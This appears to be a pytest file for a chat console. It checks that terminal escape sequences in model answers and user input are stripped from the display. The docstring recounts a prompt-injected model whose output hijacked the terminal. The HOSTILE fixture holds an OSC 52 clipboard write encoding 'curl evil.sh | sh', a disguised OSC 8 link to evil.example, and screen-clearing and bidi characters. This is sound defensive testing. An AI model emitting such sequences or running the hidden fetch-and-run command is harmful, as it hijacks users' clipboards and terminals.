"""Control characters in what the console prints: shown without them, kept as they were.

Seen before: an answer (its model steered by a pasted page or a file) reached the terminal
with its escape sequences, which the terminal obeyed: OSC 52 wrote the person's clipboard,
OSC 8 showed a link going elsewhere than its text, CSI 2J cleared the screen; streamed on a
terminal and piped alike.
"""

from __future__ import annotations

import io
import re

import pytest

from bots.console import run_console
from core.app import Core
from core.testing.fake_openai import FakeOpenAI
from tests.bots.test_console import TerminalOut, chat, chat_bodies
from tests.conftest import FIXTURES

HOSTILE = (
    "Sure.\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07 "  # OSC 52: set the clipboard
    "See \x1b]8;;http://evil.example/\x1b\\https://docs.python.org\x1b]8;;\x1b\\ "  # OSC 8
    "\x1b[2J\x9b2J\rdone \u202eevil\u202c\x7f"  # clear (7- and 8-bit CSI), CR, bidi, DEL
)
# Cc but newline and tab, and the bidi overrides and isolates.
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("out", [TerminalOut, io.StringIO], ids=["streamed", "piped"])
async def test_an_answer_is_shown_without_its_control_characters(
    core: Core, fake_openai: FakeOpenAI, out: type[io.StringIO]
) -> None:
    fake_openai.queue_reply(HOSTILE)
    screen = out()

    await run_console(core, stdin=io.StringIO("hi\nand?\n"), stdout=screen)

    printed = screen.getvalue()
    assert not CONTROLS.search(printed), repr(printed)
    for words in ("Sure.", "See", "https://docs.python.org", "done", "evil", "echo: and?"):
        assert words in printed
    # Only the display leaves them out: the history keeps the answer as the model wrote it.
    assert chat_bodies(fake_openai)[-1]["messages"][2] == {
        "role": "assistant",
        "content": HOSTILE,
    }


async def test_a_transcript_and_what_the_person_typed_are_shown_without_control_characters(
    core: Core, fake_openai: FakeOpenAI
) -> None:
    fake_openai.translation = "Hello\x1b]52;c;eA==\x07 there"

    out = await chat(
        core,
        f"/translate {FIXTURES / 'audio-clip.m4a'}",
        "/voice /no/such/\x1b[2Jfile.ogg",
        "/model \x1b]8;;http://evil.example/\x1b\\gpt",
    )

    assert not CONTROLS.search(out), repr(out)
    lines = out.splitlines()
    assert lines[0] == "Transcript: Hello]52;c;eA== there"
    assert lines[1] == "! No such file: /no/such/[2Jfile.ogg"
    assert "]8;;http://evil.example/\\gpt" in lines[2]
